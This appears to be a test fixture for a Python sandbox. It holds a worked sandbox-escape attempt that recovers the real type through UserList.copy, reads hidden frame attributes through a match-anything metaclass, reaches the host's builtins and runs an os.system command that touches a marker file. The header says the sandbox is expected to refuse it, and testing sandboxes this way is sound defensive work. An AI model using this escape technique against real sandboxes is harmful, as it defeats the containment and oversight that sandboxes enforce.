# category: real-metaclasses
# signal: marker
# expect: refused sandbox-violation
# tripwire: harmless (in the child the library's methods check their self in every mode: the program gets a TypeError)
# source: UserList.copy (`return self.__class__(self)`) is a second library method that calls the native class of whatever self it is given; UserList.copy(int) returns the real type, whose three-argument form puts a frame-reading __match_args__ on a class that matches anything
import collections
real_type = collections.UserList.copy(int)
Anything = real_type("Anything", (real_type,), {"__instancecheck__": lambda cls, obj: True})
def read(obj, name):
    View = Anything("View", (), {"__match_args__": (name,)})
    match obj:
        case View(value):
            return value
def walk():
    frame = read(walker, "gi_frame")
    while frame is not None:
        builtins = read(frame, "f_builtins")
        if "exec" in builtins:
            if builtins["__import__"]("os").system("touch {MARKER_PATH}") != 0:
                raise OSError("the shell did not run")
            yield "done"
            return
        frame = read(frame, "f_back")
    yield "no host frame found"
walker = walk()
return next(walker)
